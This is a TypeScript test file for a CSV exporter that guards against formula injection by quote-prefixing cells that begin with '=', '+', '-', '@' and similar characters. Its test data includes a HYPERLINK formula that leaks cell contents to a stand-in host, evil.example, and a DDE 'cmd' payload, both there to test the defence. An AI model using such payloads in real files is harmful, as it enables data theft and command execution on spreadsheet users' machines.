import { parse } from 'csv-parse/sync';
import { neutraliseCell, toCsv } from '../../bot/src/platform/http/csv-export';

/** The one CSV writer: formula-looking text is neutralised, everything else is left alone. */

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
/** Tails that exercise the quoting that must still happen after the prefix. */
const TAILS = [
  '',
  'SUM(1+1)',
  'HYPERLINK("http://evil.example/?"&A1,"click")',
  "cmd|' /C calc'!A0",
  'a,b',
  'line\nbreak',
  'quote " inside',
  '1+1\r\n=2',
];
const SAFE_STARTS = ['A', 'z', '1', ' ', '"', "'", 'é', '(', '#', '', '\n'];

const roundTrip = (cells: string[]): string[][] =>
  parse(
    toCsv(
      ['h'],
      cells.map((c) => [c]),
    ),
    { relax_column_count: true },
  ) as string[][];

describe('neutraliseCell', () => {
  it.each(TRIGGERS.map((t) => [JSON.stringify(t), t]))(
    'prefixes text starting with %s with a single quote',
    (_name, trigger) => {
      for (const tail of TAILS) expect(neutraliseCell(trigger + tail)).toBe(`'${trigger}${tail}`);
    },
  );

  it('leaves every other text exactly as it was', () => {
    for (const start of SAFE_STARTS) {
      for (const tail of TAILS) expect(neutraliseCell(start + tail)).toBe(start + tail);
    }
    expect(neutraliseCell('Ama Boateng')).toBe('Ama Boateng');
    expect(neutraliseCell('a=b')).toBe('a=b');
  });
});

describe('toCsv', () => {
  it('writes every trigger × tail so that it parses back as the prefixed text (quoting kept)', () => {
    const cells = TRIGGERS.flatMap((t) => TAILS.map((tail) => t + tail));
    const rows = roundTrip(cells);
    expect(rows[0]).toEqual(['h']);
    expect(rows.slice(1).map((r) => r[0])).toEqual(cells.map((c) => `'${c}`));
  });

  it('writes safe text so that it parses back unchanged', () => {
    const cells = SAFE_STARTS.flatMap((s) => TAILS.map((tail) => s + tail)).filter(
      (c) => c !== '', // an empty line is no row
    );
    const rows = roundTrip(cells.map((c) => c));
    expect(rows.slice(1).map((r) => r[0])).toEqual(cells);
  });

  it('keeps the numbers it computed as numbers and empty cells empty', () => {
    const text = toCsv(['n', 'm', 'e'], [[-3, 4, null]]);
    expect(text).toBe('n,m,e\n-3,4,\n');
  });

  it('quotes a neutralised cell that holds a separator or a quote', () => {
    expect(toCsv(['x'], [['=1,2']])).toBe('x\n"\'=1,2"\n');
    expect(toCsv(['x'], [['@"a"']])).toBe('x\n"\'@""a"""\n');
  });
});
